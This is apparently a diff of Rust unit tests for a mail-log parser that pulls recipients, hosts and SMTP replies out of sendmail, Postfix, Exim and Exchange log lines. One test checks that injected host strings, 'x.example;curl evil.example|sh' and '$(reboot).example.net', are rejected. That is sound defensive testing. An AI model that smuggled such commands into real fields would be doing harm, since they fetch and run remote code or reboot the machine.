@@ -1,3 +1,5 @@
+mod mails;
+
 use super::*;
 use crate::explain::explain;
 
@@ -210,10 +212,71 @@ fn a_notification_is_told_once() {
 }
 
 #[test]
+fn a_line_may_tell_of_several_recipients() {
+    let sendmail = "sm-mta[1]: 5AN: to=<a@one.example>,<b@two.example>, delay=1, relay=mx.example.net. [192.0.2.1], \
+                    dsn=5.1.1, stat=User unknown";
+    let queue = r#"{"queue_name": "deferred", "sender": "s@example.org", "recipients": [
+        {"address": "a@one.example", "delay_reason": "host mx.example.net[192.0.2.1] said: 450 4.7.1 no (in reply to RCPT TO command)"},
+        {"address": "b@two.example", "delay_reason": "connect to mx.example.net[192.0.2.1]:25: Connection refused"}]}"#;
+    let tracking = "2026-11-23T10:00:00.123Z,,,,EX1,x;0,,ROUTING,FAIL,1,<id@mail.example.org>,4b,a@one.example;b@two.example,\
+                    550 5.1.10 RESOLVER.ADR.RecipientNotFound; not found;550 5.2.2 full,55,2,,,Hello,s@example.org,,";
+    for line in [sendmail, &queue.replace('\n', " "), tracking] {
+        let found = all(line);
+        let recipients: Vec<_> = found.iter().filter_map(|found| found.recipient.as_deref()).collect();
+        assert_eq!(recipients, ["a@one.example", "b@two.example"], "{line}");
+    }
+    assert!(all(sendmail).iter().all(|found| found.host.as_deref() == Some("mx.example.net")));
+    assert_eq!(all(tracking)[0].reply.text(), "5.1.10 RESOLVER.ADR.RecipientNotFound; not found");
+}
+
+#[test]
+fn what_is_no_outcome_is_not_counted() {
+    for line in [
+        "postfix/smtpd[1]: NOQUEUE: reject_warning: RCPT from unknown[192.0.2.9]: 554 5.7.1 blocked; from=<a@example.org> \
+         to=<bob@example.net> proto=ESMTP helo=<x>",
+        "4ABE4: host mx1.example.net[192.0.2.1] refused to talk to me: 421 4.3.2 Too many connections",
+        "2026-11-23 10:00:00 1ab-0001-AB H=mx1.example.net [192.0.2.1]: SMTP error from remote mail server after RCPT \
+         TO:<bob@example.net>: 451 4.7.1 Greylisting",
+        "2026-11-23 10:00:00 1ab-0001-AB SMTP error from remote mail server after RCPT TO:<bob@example.net>: 451 no",
+    ] {
+        assert!(only(line).interim, "{line}");
+    }
+}
+
+#[test]
+fn names_of_hosts_and_people_are_no_more_than_that() {
+    for (text, expected) in [
+        ("mx.example.net. (192.0.2.1, the server for the domain)", Some("mx.example.net")),
+        ("[192.0.2.1]", Some("[192.0.2.1]")),
+        ("x.example;curl evil.example|sh", None),
+        ("$(reboot).example.net", None),
+        ("", None),
+    ] {
+        assert_eq!(host(text).as_deref(), expected, "{text}");
+    }
+    for (text, expected) in [
+        ("<bob@example.net>", Some("bob@example.net")),
+        ("Bob <bob@example.net>", Some("bob@example.net")),
+        ("\"bob smith\"@example.net.", Some("\"bob smith\"@example.net")),
+        ("<>", None),
+        ("bob\u{1b}@example.net", None),
+    ] {
+        assert_eq!(address(text).as_deref(), expected, "{text}");
+    }
+}
+
+#[test]
 fn lines_without_a_reply_give_none() {
-    for line in
-        ["", "hello", "2026-11-23 10:00:00 started 250 workers", "port 587 open", "pid 550", "[550] x"]
-    {
+    for line in [
+        "",
+        "hello",
+        "2026-11-23 10:00:00 started 250 workers",
+        "port 587 open",
+        "pid 550",
+        "[550] x",
+        "{\"a\": 550}",
+        "{\"message\": \"{}\"}",
+    ] {
         assert!(all(line).is_empty(), "{line}");
     }
 }
